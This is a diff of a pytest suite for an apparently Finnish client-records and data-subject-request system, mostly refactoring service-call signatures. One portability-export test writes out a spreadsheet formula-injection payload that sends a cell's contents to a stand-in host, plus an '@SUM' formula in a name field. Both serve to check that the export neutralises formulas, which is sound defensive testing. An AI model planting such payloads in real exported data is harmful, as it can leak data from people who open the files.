@@ -15,7 +15,6 @@ import pytest
 from auditlog.models import LogEntry
 from django.contrib.contenttypes.models import ContentType
 from django.core.exceptions import ValidationError
-from django.utils import timezone, translation
 from pypdf import PdfReader
 
 from clients import services as client_services
@@ -24,12 +23,12 @@ from clients.models import AccessEntry, Disclosure, SupervisoryAuthority
 from clients.services import file as file_services
 from consents import services as consent_services
 from consents.constants import ConsentMethod, GivenBy, ProhibitionKind
-from consents.demo import PURPOSES
 from consents.models import Consent, ConsentPurpose, EmailSubscriber, Prohibition
 from requests import outputs, services
 from requests.constants import Outcome, RequesterRole, RequestType
 from requests.models import Art19Notification
 from tests.conftest import make_client, make_controller, make_register
+from tests.fixtures import at
 
 TODAY = datetime.date(2026, 11, 21)
 PLAN = {
@@ -39,17 +38,6 @@ PLAN = {
     "liability_insurance_reviewed": True, "review_on": datetime.date(2027, 6, 1),
     "made_on": datetime.date(2026, 1, 15), "place": "Tampere", "client_signatory": "Matti Mäkinen",
 }
-
-
-@pytest.fixture(autouse=True)
-def english():
-    with translation.override("en"):
-        yield
-
-
-@pytest.fixture
-def purposes(register) -> dict[str, ConsentPurpose]:
-    return {spec["code"]: ConsentPurpose.objects.create(register=register, **spec) for spec in PURPOSES}
 
 
 @pytest.fixture
@@ -64,10 +52,6 @@ def described_register(register):
     return register
 
 
-def at(day: datetime.date, hour: int = 12) -> datetime.datetime:
-    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(hour)))
-
-
 def pdf_text(content: bytes) -> str:
     """The PDF's text with every run of whitespace (line wraps in table cells) as one space."""
     reader = PdfReader(io.BytesIO(content))
@@ -75,9 +59,9 @@ def pdf_text(content: bytes) -> str:
 
 
 def register_request(actor, person, *, type=RequestType.ACCESS, received_on=TODAY, **extra):
-    data = {"type": type, "received_on": received_on, "channel": "signed_letter", **extra}
-    return services.request_register(actor=actor, client=person, data=data, submission_key=uuid.uuid4(),
-                                     today=TODAY)
+    extra.setdefault("channel", "signed_letter")
+    return services.request_register(actor=actor, client=person, type=type, received_on=received_on,
+                                     submission_key=uuid.uuid4(), today=TODAY, **extra)
 
 
 def verified_request(actor, person, **kwargs):
@@ -97,11 +81,11 @@ def full_client_file(actor, person, purposes):
               "relationship": "tytär", "valid_from": datetime.date(2024, 1, 1)})
     case = file_services.case_open(actor=actor, client=person, service_task=ServiceTask.OLDER_PEOPLE,
                                    title="Kotihoito 2026", opened_on=datetime.date(2026, 1, 2))
-    file_services.granted_service_add(actor=actor, case=case, data={
-        "content": "Kotihoidon käynnit", "valid_from": datetime.date(2026, 1, 2)})
-    file_services.plan_version_create(actor=actor, client=person, data=PLAN)
-    file_services.entry_record(actor=actor, client=person, data={
-        "date": datetime.date(2026, 11, 2), "duration_minutes": 45, "content": "Kotikäynti: kauppa-asiointi."})
+    file_services.granted_service_add(actor=actor, case=case,
+        content="Kotihoidon käynnit", valid_from=datetime.date(2026, 1, 2))
+    file_services.plan_version_create(actor=actor, client=person, **PLAN)
+    file_services.entry_record(actor=actor, client=person,
+        date=datetime.date(2026, 11, 2), duration_minutes=45, content="Kotikäynti: kauppa-asiointi.")
     consent_services.consent_give(actor=actor, client=person, purpose=purposes["newsletter"],
                                   given_by=GivenBy.CLIENT, method=ConsentMethod.ORAL,
                                   given_at=at(datetime.date(2026, 2, 1)))
@@ -156,9 +140,9 @@ def test_redaction_removes_every_occurrence_and_lists_only_the_reason(db, contac
     """Seed 003: "Rekisterin ulkopuolisella henkilöllä ei ole tarkastusoikeutta, vaikka häntä
     koskevia tietoja voi olla tallennettuna asiakasta koskeviin tietoihin." The reporter of a
     concern is a third party: the handler removes them before release and records why."""
-    file_services.entry_record(actor=caseworker, client=client_a, data={
-        "date": datetime.date(2026, 10, 1), "duration_minutes": 10,
-        "content": "Naapuri Liisa Laine soitti huolestuneena. LIISA LAINE pyysi, ettei nimeä kerrota."})
+    file_services.entry_record(actor=caseworker, client=client_a,
+        date=datetime.date(2026, 10, 1), duration_minutes=10,
+        content="Naapuri Liisa Laine soitti huolestuneena. LIISA LAINE pyysi, ettei nimeä kerrota.")
     dsr = verified_request(contact, client_a)
     services.request_decide(
         actor=contact, request=dsr, outcome=Outcome.PARTIALLY_REFUSED, decision="Tiedot annetaan.",
@@ -223,8 +207,8 @@ def test_portability_zip_validates_against_its_schema_and_neutralises_formulas(
     järjestelmästä toiseen." """
     full_client_file(caseworker, client_a, purposes)
     payload = '=HYPERLINK("http://example.invalid/?x="&A1;"klikkaa")'
-    file_services.entry_record(actor=caseworker, client=client_a, data={
-        "date": datetime.date(2026, 11, 3), "duration_minutes": 5, "content": payload})
+    file_services.entry_record(actor=caseworker, client=client_a,
+        date=datetime.date(2026, 11, 3), duration_minutes=5, content=payload)
     client_services.representative_save(
         actor=caseworker, client=client_a, today=TODAY,
         data={"role": "next_of_kin", "first_names": "Pekka", "last_name": "@SUM(1+1)",
@@ -261,8 +245,8 @@ def test_portability_zip_validates_against_its_schema_and_neutralises_formulas(
 
 
 def test_portability_export_is_redacted_too(db, contact, caseworker, client_a):
-    file_services.entry_record(actor=caseworker, client=client_a, data={
-        "date": datetime.date(2026, 10, 1), "duration_minutes": 10, "content": "Naapuri Liisa Laine soitti."})
+    file_services.entry_record(actor=caseworker, client=client_a,
+        date=datetime.date(2026, 10, 1), duration_minutes=10, content="Naapuri Liisa Laine soitti.")
     dsr = verified_request(contact, client_a, type=RequestType.PORTABILITY)
     services.request_decide(actor=contact, request=dsr, outcome=Outcome.GRANTED, decision="Annettu",
                             redactions="Liisa Laine | Sivullisen tieto")
@@ -336,8 +320,8 @@ def test_guardian_refused_by_the_minors_prohibition_gets_a_certificate_without_t
     kasvua ja kehitystä, hänellä on oikeus kieltää asiakkuuttansa koskevien tietojen antaminen
     huoltajalleen tai muulle lailliselle edustajalleen." """
     child = make_client(caseworker, register, first_names="Ella", born=datetime.date(2011, 4, 4), sign="A")
-    file_services.entry_record(actor=caseworker, client=child, data={
-        "date": datetime.date(2026, 10, 1), "duration_minutes": 30, "content": "Luottamuksellinen keskustelu."})
+    file_services.entry_record(actor=caseworker, client=child,
+        date=datetime.date(2026, 10, 1), duration_minutes=30, content="Luottamuksellinen keskustelu.")
     guardian = client_services.representative_save(
         actor=contact, client=child, today=TODAY,
         data={"role": "guardian", "first_names": "Isä", "last_name": "Mäkinen", "valid_from": child.date_of_birth,
@@ -393,11 +377,11 @@ def test_erasure_removes_marketing_consents_and_list_entries_and_refuses_the_res
         is_marketing=True)
     elsewhere = consent_services.subscriber_add(actor=None, purpose=other_controller_purpose,
                                                 email="matti.makinen@example.fi")
-    entry = file_services.entry_record(actor=caseworker, client=person, data={
-        "date": datetime.date(2026, 11, 2), "duration_minutes": 45, "content": "Kotikäynti."})
+    entry = file_services.entry_record(actor=caseworker, client=person,
+        date=datetime.date(2026, 11, 2), duration_minutes=45, content="Kotikäynti.")
     dsr = verified_request(contact, person, type=RequestType.ERASURE, description="Poistakaa kaikki tietoni")
 
-    result = outputs.erasure_carry_out(actor=contact, request=dsr)
+    result = services.request_erasure_carry_out(actor=contact, request=dsr)
 
     assert (result.consents_erased, result.subscribers_erased, result.prohibitions_kept) == (1, 1, 1)
     assert not Consent.objects.filter(pk=newsletter.pk).exists()
@@ -424,11 +408,11 @@ def test_erasure_removes_marketing_consents_and_list_entries_and_refuses_the_res
 
 def test_erasure_needs_a_verified_erasure_request(db, contact, client_a):
     with pytest.raises(ValidationError) as err:
-        outputs.erasure_carry_out(actor=contact, request=register_request(contact, client_a,
+        services.request_erasure_carry_out(actor=contact, request=register_request(contact, client_a,
                                                                           type=RequestType.ERASURE))
     assert "Verify the requester's identity" in " ".join(err.value.messages)
     with pytest.raises(ValidationError):
-        outputs.erasure_carry_out(actor=contact, request=verified_request(contact, client_a))
+        services.request_erasure_carry_out(actor=contact, request=verified_request(contact, client_a))
 
 
 def test_erasure_page_confirms_then_erases_and_prefills_a_partial_decision(client, contact, client_a, purposes):
